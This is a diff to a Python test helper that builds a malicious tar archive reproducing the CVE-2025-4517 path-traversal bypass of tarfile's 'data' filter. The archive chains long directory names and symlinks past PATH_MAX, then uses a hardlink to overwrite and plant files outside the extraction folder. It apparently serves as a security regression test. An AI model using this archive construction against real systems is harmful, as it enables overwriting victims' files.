@@ -64,15 +64,15 @@ def _file(name: str, data: bytes) -> tuple[tarfile.TarInfo, io.BytesIO]:
 
 def path_max_escape_archive(path: Path, outside: Path, model_dir: Path) -> Path:
     """The CVE-2025-4517 shape: nested long-named folders reached through one-letter symlinks
-    until the real path passes PATH_MAX (so `os.path.realpath` stops resolving and the tar
-    `data` filter of Python <= 3.13.3 accepts what follows), then a link that climbs back out
-    of the extraction folder, a link through it to a folder outside, and a hardlink through
-    that which overwrites an outside file, followed by a regular member that writes into it.
+    until the real path passes PATH_MAX (so `os.path.realpath` stops resolving and an
+    unpatched tar `data` filter accepts what follows), then a link that is lexically inside
+    the extraction folder but really far above it, and through it a hardlink to an outside
+    file followed by a regular member that writes into it, and a file planted outside.
+    Python 3.11.7's `tarfile.extractall(filter="data")` overwrites the outside file with it.
     """
     long_name = "d" * 247
-    steps = "abcdefghijklmnop"  # 16 x 248 characters: past a 4096-byte PATH_MAX
-    depth = len(model_dir.parts) + len(steps) + 1
-    rel_outside = os.path.relpath(outside, model_dir)
+    steps = "abcdefghijklmnopq"  # 17 x 248 characters: past a 4096-byte PATH_MAX
+    assert len(model_dir.parts) < len(steps)  # climbing len(steps) + 1 levels reaches "/"
     with tarfile.open(path, "w:bz2") as tar:
         _add_model(tar, full=False)
         prefix = ""
@@ -80,9 +80,12 @@ def path_max_escape_archive(path: Path, outside: Path, model_dir: Path) -> Path:
             tar.addfile(_dir(prefix + long_name))
             tar.addfile(_link(prefix + step, long_name))
             prefix += step + "/"
-        tar.addfile(_link(prefix + "l", "../" * len(steps)))  # looks harmless unresolved
-        tar.addfile(_link("escape", prefix + "l/" + "../" * depth + rel_outside.lstrip("/")))
-        tar.addfile(_link("escape-abs", "escape/../" + rel_outside))
+        # Really the extraction folder; unresolvable (too long) for realpath, which then
+        # reads the rest of a path through it lexically.
+        tar.addfile(_link(prefix + "l", "../" * len(steps)))
+        # Lexically back in the extraction folder; really len(steps) + 1 levels above it.
+        climb = "../" * (len(steps) + 1)
+        tar.addfile(_link("escape", prefix + "l/" + climb + str(outside).lstrip("/")))
         tar.addfile(_link("m/overwrite", "escape/secret.txt", tarfile.LNKTYPE))
         tar.addfile(*_file("m/overwrite", b"pwned\n"))
         tar.addfile(*_file("escape/planted.txt", b"planted\n"))
